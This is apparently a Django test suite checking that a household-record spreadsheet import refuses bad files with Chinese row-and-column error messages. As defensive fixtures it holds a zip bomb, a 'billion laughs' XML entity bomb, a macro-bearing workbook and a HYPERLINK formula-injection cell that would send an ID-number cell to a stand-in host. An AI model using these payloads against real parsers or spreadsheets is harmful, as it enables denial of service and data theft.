"""Bad sheets: each is refused with a Chinese message naming the row and column where there is one,
and nothing is written."""

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cases.models import Household, Member, Status
from network.models import Job

from .conftest import make_household, make_id_number, make_standard
from .import_sheets import person, sheet_bytes, upload


@pytest.fixture(autouse=True)
def standard(township):
    return make_standard(township)


@pytest.fixture
def clerk_client(client, community_clerk):
    client.force_login(community_clerk)
    return client


def _post(client, data, name="表.xlsx"):
    return client.post(reverse("cases:household_import"), {"file": upload(data, name)})


def _refused(client, data, name="表.xlsx"):
    response = _post(client, data, name)
    assert response.status_code == 200
    assert Job.objects.count() == 0 and Household.objects.count() == 0
    return response.context["form"].errors["file"][0]


def _preview(client, data):
    response = _post(client, data)
    assert response.status_code == 302, response.context["form"].errors
    return Job.objects.get(pk=response.url.rstrip("/").split("/")[-1])


def _errors(job):
    return [(e["row"], e["column"], e["message"]) for e in job.outcome["errors"]]


def _zip(entries):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return target.getvalue()


def _replaced(data, name, content):
    """The workbook ``data`` with one of its parts replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    return _zip({info.filename: (content if info.filename == name else source.read(info.filename))
                 for info in source.infolist()})


def _one_family(**extra):
    return [person("1", "张志强", "户主本人", make_id_number(), **extra)]


def test_a_renamed_pdf_is_told_it_is_a_pdf(clerk_client):
    assert "PDF" in _refused(clerk_client, b"%PDF-1.7\n" + b"0" * 400, "名单.xlsx")


def test_an_old_xls_is_told_to_be_saved_as_xlsx(clerk_client):
    assert "旧版Excel" in _refused(clerk_client, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, "名单.xls")


def test_a_password_protected_workbook_is_told_to_drop_its_password(clerk_client):
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + "EncryptionInfo".encode("utf-16-le") + b"\0" * 500
    assert "密码" in _refused(clerk_client, data)


def test_a_file_that_is_no_workbook_at_all_is_refused(clerk_client):
    assert "不是Excel工作簿" in _refused(clerk_client, b"name,id\n" * 50, "名单.xlsx")
    assert "不是Excel工作簿" in _refused(clerk_client, _zip({"readme.txt": "hello"}))


def test_a_workbook_with_macros_is_refused(clerk_client):
    data = sheet_bytes(_one_family())
    source = zipfile.ZipFile(io.BytesIO(data))
    entries = {info.filename: source.read(info.filename) for info in source.infolist()}
    entries["xl/vbaProject.bin"] = b"\0" * 100
    assert "宏" in _refused(clerk_client, _zip(entries))


def test_a_zip_bomb_is_refused_before_it_is_unpacked(clerk_client):
    data = sheet_bytes(_one_family())
    source = zipfile.ZipFile(io.BytesIO(data))
    entries = {info.filename: source.read(info.filename) for info in source.infolist()}
    entries["xl/media/padding.bin"] = b"\0" * (60 * 1024 * 1024)
    bomb = _zip(entries)
    assert len(bomb) < 5 * 1024 * 1024
    assert "压缩炸弹" in _refused(clerk_client, bomb)
    entries["xl/media/padding.bin"] = b"\0" * (3 * 1024 * 1024)
    assert "压缩比异常" in _refused(clerk_client, _zip(entries))


def test_a_file_over_five_megabytes_is_refused(clerk_client):
    assert "5 MB" in _refused(clerk_client, b"PK\x03\x04" + b"x" * (5 * 1024 * 1024 + 10))


def test_an_xml_entity_bomb_is_refused_and_not_expanded(clerk_client):
    bomb = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;'
            '&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c><c r="B1" t="inlineStr"><is><t>与户主关系</t></is></c>'
            '<c r="C1" t="inlineStr"><is><t>身份证号</t></is></c></row>'
            '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol3;</t></is></c></row></sheetData></worksheet>')
    data = _replaced(sheet_bytes(_one_family()), "xl/worksheets/sheet1.xml", bomb)
    job = _preview(clerk_client, data)
    assert job.state == "failed" and "不安全的XML" in job.message
    assert Household.objects.count() == 0


def test_a_wrong_check_digit_on_row_37_of_500_is_named_and_nothing_is_written(clerk_client):
    rows = []
    for i in range(250):
        rows.append(person(str(i), "张志强", "户主本人", make_id_number()))
        rows.append(person(str(i), "李秀英", "配偶", make_id_number(male=False)))
    # the header is row 1, so the 36th person is on Excel's row 37
    good = rows[35]["身份证号"]
    rows[35]["身份证号"] = good[:17] + ("0" if good[17] != "0" else "1")
    job = _preview(clerk_client, sheet_bytes(rows))
    assert _errors(job) == [(37, "身份证号", "身份证号码校验位不正确，请核对后重新输入。")]
    assert job.outcome["counts"]["invalid"] == 1 and job.outcome["counts"]["new"] == 249
    assert job.outcome["errors"][0]["value"] == good[:6] + "********" + rows[35]["身份证号"][-4:]
    assert "confirm-import" not in clerk_client.get(job.get_absolute_url()).content.decode()
    response = clerk_client.post(reverse("cases:household_import_confirm", args=[job.pk]))
    assert Household.objects.count() == 0 and Job.objects.filter(kind="cases.import_write").count() == 0
    assert response.status_code == 302


def test_an_id_column_excel_stored_as_numbers_is_explained_with_how_to_fix_it(clerk_client):
    rows = _one_family()
    rows[0]["身份证号"] = 532526197503140012
    job = _preview(clerk_client, sheet_bytes(rows))
    (row, column, message), = _errors(job)
    assert (row, column) == (2, "身份证号") and "存成了数字" in message and "文本" in message


def test_an_import_into_another_township_is_refused(clerk_client, sibling_township):
    job = _preview(clerk_client, sheet_bytes(_one_family(**{"建档节点": sibling_township.name})))
    assert _errors(job) == [(2, "建档节点", f"找不到名为“{sibling_township.name}”的节点，或它不在您的管辖范围内。")]


def test_a_formula_or_markup_in_a_name_is_refused_and_never_becomes_a_formula_in_the_report(clerk_client):
    rows = _one_family() + [person("2", "<b>王五</b>", "户主本人", make_id_number())]
    rows[0]["姓名"] = '=HYPERLINK("http://x.example/?"&D2,"点我")'
    job = _preview(clerk_client, sheet_bytes(rows))
    errors = _errors(job)
    assert (2, "姓名", "单元格里是公式，请改为直接填写内容。") in errors
    assert (3, "姓名", "姓名只能由文字组成（少数民族姓名可用“·”分隔）。") in errors
    page = clerk_client.get(job.get_absolute_url()).content.decode()
    assert "<b>王五</b>" not in page and "&lt;b&gt;王五&lt;/b&gt;" in page
    report = load_workbook(io.BytesIO(b"".join(clerk_client.get(reverse("network:job_result", args=[job.pk])).streaming_content)))
    for sheet in report.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert any(str(c.value).startswith("'=HYPERLINK") for row in report.worksheets[0].iter_rows() for c in row)


def test_a_person_twice_in_the_file_is_named_on_the_second_row(clerk_client):
    same = make_id_number()
    rows = [person("1", "张志强", "户主本人", same), person("2", "张志强", "户主本人", same)]
    job = _preview(clerk_client, sheet_bytes(rows))
    assert _errors(job) == [(3, "身份证号", "与第2行的身份证号相同：同一个人在表中出现了两次。")]


def test_a_household_without_a_head_is_named(clerk_client):
    rows = [person("7", "李秀英", "配偶", make_id_number(male=False)), person("7", "张小明", "子女", make_id_number())]
    job = _preview(clerk_client, sheet_bytes(rows))
    assert _errors(job) == [(2, "与户主关系", "第2—3行这一户没有户主：请把户主那一行的“与户主关系”填为“户主本人”。")]


def test_a_person_on_file_in_another_township_is_refused_with_the_forms_words_and_nothing_more(
    clerk_client, sibling_community, outsider
):
    someone = make_id_number()
    make_household(sibling_community, outsider, head_name="赵德胜", head_id=someone, status=Status.APPROVED)
    job = _preview(clerk_client, sheet_bytes([person("1", "赵德胜", "户主本人", someone)]))
    (row, column, message), = _errors(job)
    assert message == "该人员已在“新哨社区援助分站”的一份有效档案中（在档），一人不能同时建两份档案。"
    assert Household.objects.count() == 1


def test_a_blank_row_and_a_title_row_are_fine_but_a_member_without_a_household_is_named(clerk_client):
    rows = _one_family() + [person("", "李秀英", "配偶", make_id_number(male=False))]
    job = _preview(clerk_client, sheet_bytes(rows, title="弥阳镇困难职工花名册", blank_rows_after=(0,)))
    assert _errors(job) == [(5, "户主身份证号", "请填写户主身份证号（或户编号），以便把这位家庭成员归到户主名下。")]
    assert Member.objects.count() == 0
